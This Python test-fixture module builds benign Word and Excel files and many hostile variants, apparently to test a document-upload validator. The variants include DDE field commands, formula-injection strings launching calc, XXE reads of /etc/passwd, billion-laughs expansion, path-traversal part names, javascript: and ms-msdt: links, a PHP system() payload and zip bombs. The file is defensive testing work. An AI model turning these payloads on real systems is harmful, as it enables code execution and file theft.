"""Word documents and workbooks for the tests, put together part by part."""

import io
import struct
import zipfile
from functools import cache

import openpyxl
import xlsxwriter

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_PACKAGE_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
_MAIN_TYPES = {"docx": "wordprocessingml.document.main+xml", "xlsx": "spreadsheetml.sheet.main+xml"}


def content_types(kind, main_type=None, more=""):
    return (
        f'{_XML}<Types xmlns="{_TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{MAIN[kind]}" ContentType="{main_type or _OFFICE_TYPE + _MAIN_TYPES[kind]}"/>'
        f"{more}</Types>"
    )


def relation(type_, target, mode="", number=1):
    mode = f' TargetMode="{mode}"' if mode else ""
    type_ = type_ if "://" in type_ else f"{_RELATIONS}/{type_}"
    return f'<Relationship Id="rId{number}" Type="{type_}" Target="{target}"{mode}/>'


def relations(*lines):
    return f'{_XML}<Relationships xmlns="{_PACKAGE_RELATIONS}">{"".join(lines)}</Relationships>'


def word(body="<w:p><w:r><w:t>Laporan pelatihan</w:t></w:r></w:p>"):
    return f'{_XML}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'


def sheet(cells='<c r="A1"><v>1</v></c>'):
    return f'{_XML}<worksheet xmlns="{_SHEET}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'


def parts(kind):
    """{name: text} of the smallest file that Word or Excel opens."""
    found = {
        "[Content_Types].xml": content_types(kind),
        "_rels/.rels": relations(relation("officeDocument", MAIN[kind])),
    }
    if kind == "docx":
        return {**found, MAIN[kind]: word()}
    return {
        **found,
        MAIN[kind]: f'{_XML}<workbook xmlns="{_SHEET}" xmlns:r="{_RELATIONS}"><sheets>'
        '<sheet name="Capaian" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(relation("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": sheet(),
    }


def zipped(contents, *, streamed=False, stored=()):
    """The parts as a ZIP. ``streamed``: written to where nobody can go back, so sizes follow the data."""
    out = io.BytesIO()
    with zipfile.ZipFile(_OneWay(out) if streamed else out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            packing = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, packing)
    return out.getvalue()


class _OneWay(io.RawIOBase):
    def __init__(self, out):
        self._out = out

    def writable(self):
        return True

    def write(self, data):
        return self._out.write(data)


def file(kind, **changes):
    """A good file with parts changed or added; a part that is None is left out."""
    contents = {**parts(kind), **changes.pop("more", {})}
    return zipped({name: content for name, content in contents.items() if content is not None}, **changes)


@cache
def workbook_of_many_things():
    """What a unit's own table may hold: formulas, a chart, a comment, links, a rule for colours."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        page = book.add_worksheet("Capaian")
        page.write_row(0, 0, ["Bulan", "Peserta", "Lulus | bersertifikat"])
        for row in range(1, 13):
            page.write_row(row, 0, [row, row * 25, row * 20])
        page.write_formula("D2", '=B2&"|"&C2&"!"')
        page.write_url("A20", "https://kemnaker.go.id/")
        page.write_url("A21", "mailto:unit@example.test")
        page.write_comment("B2", "sudah diperiksa")
        page.conditional_format("B2:B13", {"type": "formula", "criteria": "=$B2>100"})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Capaian!$B$2:$B$13"})
        page.insert_chart("F2", chart)
    return out.getvalue()


def good():
    """(name, file) of plain documents as programs write them."""
    yield "laporan.docx", file("docx")
    yield "tabel.xlsx", file("xlsx")
    yield "laporan mengalir.docx", file("docx", streamed=True)
    yield "tabel mengalir.xlsx", file("xlsx", streamed=True)
    yield "tabel kerja.xlsx", workbook_of_many_things()
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Peserta", 20])
    book.save(out)
    yield "tabel lain.xlsx", out.getvalue()
    footer = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>'
    )
    yield (
        "laporan bertaut.docx",
        file(
            "docx",
            more={
                "word/document.xml": word(footer),
                "word/_rels/document.xml.rels": relations(
                    relation("hyperlink", "https://example.test/dde/auto", "External"),
                    relation("hyperlink", "file:///C:\\Users\\a\\Laporan.docx", "External", 2),
                ),
                "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
                "customXml/item1.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16"),
                "docProps/core.xml": f"{_XML}<a/>",
            },
        ),
    )


def _rel_part(kind):
    folder, name = MAIN[kind].split("/")
    return f"{folder}/_rels/{name}.rels"


def with_relation(kind, type_, target, mode="External"):
    lines = [relation(type_, target, mode, 9)]
    if kind == "xlsx":
        lines.append(relation("worksheet", "worksheets/sheet1.xml"))
    return file(kind, more={_rel_part(kind): relations(*lines)})


def hostile(kind):
    """(what it is, file) of documents that Word or Excel might open all the same."""
    folder = MAIN[kind].split("/")[0]
    for name in (
        f"{folder}/vbaProject.bin",
        f"{folder}/vbaData.xml",
        f"{folder}/activeX/activeX1.xml",
        f"{folder}/activeX/activeX1.bin",
        f"{folder}/macrosheets/sheet1.xml",
        f"{folder}/dialogsheets/sheet1.xml",
        f"{folder}/attachedToolbars.bin",
        f"{folder}/webextensions/webextension1.xml",
        "customUI/customUI.xml",
        f"{folder}/embeddings/oleObject1.bin",
        f"{folder}/embeddings/Microsoft_Excel_Sheet.xlsx",
        f"{folder}/media/a.zip",
        f"{folder}/media/a.exe",
        f"{folder}/media/a.html",
        f"{folder}/media/a.js",
        f"{folder}/afchunk.mht",
        f"{folder}/externalLinks/externalLink1.xml",
        f"{folder}/connections.xml",
        f"{folder}/queryTables/queryTable1.xml",
        f"{folder}/model/item.data",
    ):
        yield f"with {name}", file(kind, more={name: "<a/>"})
    for what, content in (
        ("an archive", zipped({"a": "b"})),
        ("a Windows program", b"MZ\x90\x00"),
        ("a program", b"\x7fELF\x02"),
        ("an old document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("a PDF", b"%PDF-1.7"),
    ):
        yield f"with {what} called a picture", file(kind, more={f"{folder}/media/image1.png": content})
    for name in (
        "/etc/passwd",
        "../../evil.xml",
        "word/../../evil.xml",
        "C:\\evil.xml",
        "a\\..\\evil.xml",
        "a\nb.xml",
    ):
        yield f"with a part named {name!r}", file(kind, more={name: "<a/>"})
    for type_, target in (
        ("attachedTemplate", "http://example.test/a.dotm"),
        ("image", "http://example.test/a.png"),
        ("image", "file://example.test/a.png"),
        ("oleObject", "http://example.test/a.html!"),
        ("frame", "http://example.test/"),
        ("externalLinkPath", "http://example.test/a.xlsx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "\\\\example.test\\a"),
        ("hyperlink", "file://example.test/a"),
        ("hyperlink", "file:////example.test/a"),
        ("hyperlink", "ms-msdt:/id"),
        ("hyperlink", "mhtml:http://example.test/"),
    ):
        yield f"that goes to {target} as {type_}", with_relation(kind, type_, target)
    for type_ in ("oleObject", "package", "aFChunk", "control", "attachedTemplate", "externalLink"):
        yield f"with a part that is {type_}", with_relation(kind, type_, "a.xml", "")
    for type_ in (
        f"application/vnd.ms-{'word.document' if kind == 'docx' else 'excel.sheet'}.macroEnabled.main+xml",
        f"{_OFFICE_TYPE}{'wordprocessingml' if kind == 'docx' else 'spreadsheetml'}.template.main+xml",
        f"{_OFFICE_TYPE}presentationml.presentation.main+xml",
        "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
        "text/html",
    ):
        yield f"of type {type_}", file(kind, more={"[Content_Types].xml": content_types(kind, type_)})
    for type_ in ("application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml"):
        more = f'<Override PartName="/a.xml" ContentType="{type_}"/>'
        yield (
            f"with a part of type {type_}",
            file(kind, more={"[Content_Types].xml": content_types(kind, more=more)}),
        )
    yield "without a list of types", file(kind, more={"[Content_Types].xml": None})
    yield "without relations", file(kind, more={"_rels/.rels": None})
    yield "without its main part", file(kind, more={MAIN[kind]: None})
    yield (
        "whose main part is elsewhere",
        file(
            kind,
            more={
                "_rels/.rels": relations(relation("officeDocument", "http://example.test/a.xml", "External"))
            },
        ),
    )
    yield from _of_xml(kind)


def _of_xml(kind):
    plain = parts(kind)[MAIN[kind]]
    body = plain[len(_XML) :]
    root = "w:document" if kind == "docx" else "workbook"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for what, prolog in (
        ("with a definition", f"<!DOCTYPE {root}>"),
        ("that reads a file", f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ("that asks a site", f'<!DOCTYPE {root} SYSTEM "http://example.test/a.dtd">'),
        ("that grows by itself", f'<!DOCTYPE {root} [<!ENTITY l0 "ha">{laughs}]>'),
    ):
        yield what, file(kind, more={MAIN[kind]: _XML + prolog + body})
        yield (
            f"{what} in its types",
            file(kind, more={"[Content_Types].xml": content_types(kind).replace(_XML, _XML + prolog)}),
        )
    yield "that ends too soon", file(kind, more={MAIN[kind]: plain[:-20]})
    yield "that is no XML", file(kind, more={MAIN[kind]: "laporan"})
    yield (
        "in letters of a mainframe",
        file(kind, more={MAIN[kind]: b"<?xml version='1.0' encoding='cp037'?>" + body.encode("cp037")}),
    )
    yield "a thousand elements deep", file(kind, more={MAIN[kind]: _XML + "<a>" * 1_000 + "</a>" * 1_000})
    if kind == "docx":
        pieces = "".join(
            f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DEA", "UTO c:\\x ")
        )
        begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        yield (
            "with a command in pieces",
            file("docx", more={"word/document.xml": word(f"<w:p>{begin}{pieces}</w:p>")}),
        )
        simple = '<w:p><w:fldSimple w:instr="DDE excel a b"/></w:p>'
        yield "with a simple command", file("docx", more={"word/document.xml": word(simple)})
        yield "with a command in its footer", file("docx", more={"word/footer1.xml": word(simple)})
        yield (
            "with a command in other letters",
            file("docx", more={"word/document.xml": word(simple.replace("DDE", "&#68;&#100;E"))}),
        )
    else:
        for what, formula in (
            ("with a command", "cmd|' /c calc'!A1"),
            ("with a command in other letters", "cmd&#124;' /c calc'&#33;A1"),
            ("with a command as raw text", "<![CDATA[cmd|' /c calc'!A1]]>"),
            ("with a command over two lines", "cmd|' /c\ncalc'!A1"),
            ("with a command behind a remark", "cmd<!-- a -->|' /c calc'!A1"),
        ):
            cells = f'<c r="A1"><f>{formula}</f><v>1</v></c>'
            yield what, file("xlsx", more={"xl/worksheets/sheet1.xml": sheet(cells)})
        name = f'<definedName name="a">cmd|{"a" * 9}!A1</definedName>'
        yield (
            "with a command as a name",
            file("xlsx", more={"xl/workbook.xml": plain.replace("</sheets>", f"</sheets>{name}")}),
        )
        yield (
            "with a definition in a sheet",
            file(
                "xlsx",
                more={"xl/worksheets/sheet1.xml": sheet().replace(_XML, f"{_XML}<!DOCTYPE worksheet>")},
            ),
        )


def lying_archives(kind):
    """(what it is, file) of documents whose ZIP is not what its directory says."""
    plain = file(kind)
    main = MAIN[kind]
    yield "packed far too tightly", file(kind, more={f"{main}2.xml": " " * (8 * 2**20)})
    yield (
        "of 70 MiB unpacked",
        file(kind, more={f"a{n}.xml": " " * (10 * 2**20) for n in range(7)}, stored=()),
    )
    yield "of 2,100 parts", file(kind, more={f"a{n}.xml": "" for n in range(2_100)})
    yield "with a part in small letters again", file(kind, more={main.upper(): "<a/>"})
    yield "with a page behind", plain + b"<html><script>alert(1)</script></html>"
    yield "with a page before", b"<html><script>alert(1)</script></html>" + plain
    yield "with a Windows program before", b"MZ\x90\x00" + plain
    yield "with another archive behind", plain + zipped({"a": "b"})
    yield "with another archive before", zipped({"a": "b"}) + plain
    yield "with a remark", _with_remark(plain, b"<?php system('id'); ?>")
    yield "with a hole", _with_hole(plain)
    directory = plain.rindex(b"PK\x01\x02")
    for what, at, change in (
        ("that says it is encrypted", 8, b"\x01\x00"),
        ("of an unknown packing", 10, b"\x63\x00"),
        ("of packing BZIP2", 10, b"\x0c\x00"),
        ("with a wrong sum", 16, b"\x00\x00\x00\x00"),
        ("with a wrong packed size", 20, b"\x01\x00\x00\x00"),
        ("with a wrong size", 24, b"\x01\x00\x00\x00"),
        ("with a size of 4 GiB", 24, b"\xfe\xff\xff\xff"),
        ("with an offset beyond its end", 42, b"\xff\xff\xff\x0f"),
        ("with an offset of another part", 42, b"\x00\x00\x00\x00"),
        ("with a link", 38, b"\x00\x00\xff\xa1"),
    ):
        place = directory + at
        yield f"{what} in its directory", plain[:place] + change + plain[place + len(change) :]
    yield "with another name in front of the part", plain.replace(main.encode(), main.encode()[::-1], 1)
    yield "with the same part twice", _with_part_twice(plain)
    end = plain.rindex(b"PK\x05\x06")
    for what, at, change in (
        ("that counts no parts", 8, bytes(4)),
        ("that counts 65,535 parts", 8, b"\xff" * 4),
        ("on several disks", 4, b"\x01\x00"),
        ("whose directory is elsewhere", 16, b"\x00\x00\x00\x00"),
    ):
        yield what, plain[: end + at] + change + plain[end + at + len(change) :]


def _with_remark(archive, text):
    return archive[:-2] + struct.pack("<H", len(text)) + text


def _with_hole(archive):
    """Bytes between the last part and the directory that no reader is shown."""
    start = struct.unpack_from("<I", archive, len(archive) - 6)[0]
    hidden = b"tersembunyi" * 5
    return (
        archive[:start] + hidden + archive[start:-6] + struct.pack("<I", start + len(hidden)) + archive[-2:]
    )


def _with_part_twice(archive):
    out = io.BytesIO(archive)
    with zipfile.ZipFile(out, "a") as opened:
        name = opened.namelist()[-1]
        # The module warns of the second part of a name; here it is meant.
        opened.NameToInfo.clear()
        opened.writestr(name, "<other/>")
    return out.getvalue()
